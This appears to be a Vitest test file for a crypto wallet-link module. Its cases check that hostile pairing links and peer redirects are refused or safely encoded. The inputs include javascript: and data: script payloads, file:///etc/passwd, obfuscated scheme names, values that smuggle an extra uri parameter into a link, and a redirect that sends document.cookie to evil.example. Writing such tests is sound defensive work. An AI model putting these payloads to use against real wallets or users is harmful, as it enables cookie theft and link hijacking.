// @vitest-environment happy-dom
import { expect } from 'vitest'
import {
  chooseWalletLink,
  toPairingLinks,
  toRequestLink,
  type WalletLinks,
} from '../../../src/walletconnect/links.js'
import { isAllowedDeepLink } from '../../../src/wallets/links.js'
import { walletRegistry } from '../../../src/wallets/walletRegistry.js'
import {
  bad,
  type Case,
  refusedLink,
  runCases,
} from '../../helpers/badInputCases.js'
import {
  pairingUri,
  walletConnectTopic,
} from '../../helpers/badInputFixtures.js'

// Bad wallet links: pairing and request links, and the redirects a peer claims.

const refusedDeepLink = {
  ignored: 'the QR code only: no deep link',
  check: (links: { qr: string; deepLink: string | undefined }) =>
    expect(links).toEqual({ qr: pairingUri, deepLink: undefined }),
}
const notAllowed = {
  ignored: 'not allowed: false',
  check: (allowed: boolean) => expect(allowed).toBe(false),
}

/** A peer's redirect metadata as the session's walletLink() passes it on (no host schemes). */
const peerLink = (redirect: Record<string, unknown> | undefined) =>
  chooseWalletLink(redirect as WalletLinks | undefined, 'native')

const cases: Case[] = [
  // --- pairing links -------------------------------------------------------
  bad({
    source: 'pairing links',
    name: 'no wallet links at all',
    input: undefined,
    run: (wallet) => toPairingLinks(pairingUri, { wallet }),
    expected: refusedDeepLink,
  }),
  bad({
    source: 'pairing links',
    name: 'a host wallet whose app link is javascript: (its scheme passed along)',
    input: { native: 'javascript:alert(document.cookie)//' },
    run: (wallet) =>
      toPairingLinks(pairingUri, { wallet, extraSchemes: ['javascript:'] }),
    expected: refusedDeepLink,
  }),
  bad({
    source: 'pairing links',
    name: 'a data: app link',
    input: { native: 'data:text/html,<script>alert(1)</script>' },
    run: (wallet) =>
      toPairingLinks(pairingUri, { wallet, extraSchemes: ['data:'] }),
    expected: refusedDeepLink,
  }),
  bad({
    source: 'pairing links',
    name: 'a universal link on plain http://',
    input: { universal: 'http://wallet.example' },
    run: (wallet) =>
      toPairingLinks(pairingUri, { wallet, preference: 'universal' }),
    expected: refusedDeepLink,
  }),
  bad({
    source: 'pairing links',
    name: 'a universal link carrying credentials',
    input: { universal: 'https://user:secret@wallet.example' },
    run: (wallet) =>
      toPairingLinks(pairingUri, { wallet, preference: 'universal' }),
    expected: refusedDeepLink,
  }),
  bad({
    source: 'pairing links',
    name: 'an Android intent:// link',
    input: { native: 'intent://scan/#Intent;scheme=evil;end' },
    run: (wallet) => toPairingLinks(pairingUri, { wallet }),
    expected: refusedDeepLink,
  }),
  bad({
    source: 'pairing links',
    name: 'a pairing URI with &, # and ? in it',
    input: 'wc:abc@2?symKey=1&relay-protocol=irn#&uri=javascript:alert(1)',
    run: (uri) =>
      toPairingLinks(uri, { wallet: walletRegistry.trust.walletConnect }),
    expected: {
      ignored: 'carried whole, encoded, as the one uri parameter',
      check: ({ qr, deepLink }) => {
        const link = new URL(deepLink!)
        expect(link.protocol).toBe('trust:')
        expect([...link.searchParams.keys()]).toEqual(['uri'])
        expect(link.searchParams.get('uri')).toBe(qr)
        expect(link.hash).toBe('')
      },
    },
  }),
  bad({
    source: 'pairing links',
    name: 'a request link for a topic with & in it',
    input: `${walletConnectTopic}&uri=javascript:alert(1)`,
    run: (topic) => ({ topic, link: toRequestLink('trust://', topic) }),
    expected: {
      ignored: 'the topic stays the one sessionTopic parameter',
      check: ({ topic, link }) => {
        const url = new URL(link)
        expect([...url.searchParams.keys()]).toEqual(['sessionTopic'])
        expect(url.searchParams.get('sessionTopic')).toBe(topic)
      },
    },
  }),
  bad({
    source: 'pairing links',
    name: 'JavaScript: in mixed case',
    input: 'JavaScript:alert(1)',
    run: (link) => isAllowedDeepLink(link),
    expected: notAllowed,
  }),
  bad({
    source: 'pairing links',
    name: 'javascript: split by a tab and a newline',
    input: ' java\tscr\nipt:alert(1)',
    run: (link) => isAllowedDeepLink(link),
    expected: notAllowed,
  }),
  bad({
    source: 'pairing links',
    name: 'file: even when a host names it',
    input: 'file:///etc/passwd',
    run: (link) => isAllowedDeepLink(link, ['file:']),
    expected: notAllowed,
  }),
  bad({
    source: 'pairing links',
    name: 'a link that is not a string',
    input: undefined,
    run: (link) => isAllowedDeepLink(link as never),
    expected: notAllowed,
  }),

  // --- peer metadata redirects (the wallet's own claim, no host schemes) ---
  bad({
    source: 'peer metadata redirects',
    name: 'a javascript: native redirect',
    input: { native: 'javascript:fetch("//evil.example?c="+document.cookie)' },
    run: peerLink,
    expected: refusedLink,
  }),
  bad({
    source: 'peer metadata redirects',
    name: 'an app scheme of no registered wallet',
    input: { native: 'evilapp://steal' },
    run: peerLink,
    expected: refusedLink,
  }),
  bad({
    source: 'peer metadata redirects',
    name: 'a redirect that is a number',
    input: { native: 42, universal: { href: 'https://wallet.example' } },
    run: peerLink,
    expected: refusedLink,
  }),
  bad({
    source: 'peer metadata redirects',
    name: 'a universal redirect on plain http://',
    input: { universal: 'http://wallet.example/wc' },
    run: peerLink,
    expected: refusedLink,
  }),
  bad({
    source: 'peer metadata redirects',
    name: 'no redirect metadata',
    input: undefined,
    run: peerLink,
    expected: refusedLink,
  }),
  bad({
    source: 'peer metadata redirects',
    name: 'a bad native redirect beside a good universal one',
    input: { native: 'vbscript:msgbox', universal: 'https://wallet.example' },
    run: peerLink,
    expected: {
      ignored: 'the bad link is skipped for the good one',
      check: (link) => expect(link).toBe('https://wallet.example'),
    },
  }),
]

runCases(cases)
